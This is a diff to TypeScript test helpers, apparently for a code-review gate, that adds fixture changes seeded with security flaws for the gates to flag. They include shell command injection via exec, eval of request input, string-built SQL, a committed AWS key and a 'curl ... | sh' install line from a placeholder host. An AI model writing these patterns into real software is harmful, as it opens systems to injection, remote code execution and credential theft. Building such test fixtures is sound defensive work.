@@ -172,6 +172,21 @@ export function blockedChange(over: Record<string, unknown> = {}): Record<string
   return change(newFile('deploy/env.sh', `export AWS_KEY=${AWS_KEY}\n`), over);
 }
 
+/** Changes as a queue has them: of several repositories, with what each gate finds. */
+export async function submitSamples({ submit }: House): Promise<void> {
+  const shell = "exec('ls -l ' + req.query.dir, done);\n";
+  for (const [repo_name, commit_message, path, text] of [
+    ['acme/shop', 'List a directory in the admin page', 'src/admin/list.js', shell],
+    ['acme/payments', 'Retry a payment that timed out', 'deploy/env.sh', `KEY=${AWS_KEY}\n`],
+    ['acme/web', 'Render templates of partners', 'src/render.js', 'eval(req.body.template);\n'],
+    ['acme/infra', 'Install the agent', 'install.sh', 'curl -s https://a.example/i | sh\n'],
+    ['data/loader', 'Find orders by name', 'find.js', 'db.query("select " + req.query.q);\n'],
+    ['acme/shop', 'docs: how refunds work', 'docs/refunds.md', 'Refunds take two days.\n'],
+  ] as const) {
+    await submit(change(newFile(path, text), { repo_name, commit_message }));
+  }
+}
+
 /** A BLOCKED change, open at the page of somebody who may decide. */
 export async function openBlocked(
   house: House,
@@ -271,6 +286,7 @@ export function shiftsOf(page: Page): Promise<number[]> {
 export async function shoot(page: Page, name: string): Promise<void> {
   const folder = process.env['CRA_SCREENSHOTS'];
   if (folder === undefined) return;
+  await page.setViewportSize({ width: 1280, height: 760 });
   for (const colorScheme of ['dark', 'light'] as const) {
     await page.emulateMedia({ colorScheme });
     await page.screenshot({ path: `${folder}/${name}-${colorScheme}.png` });
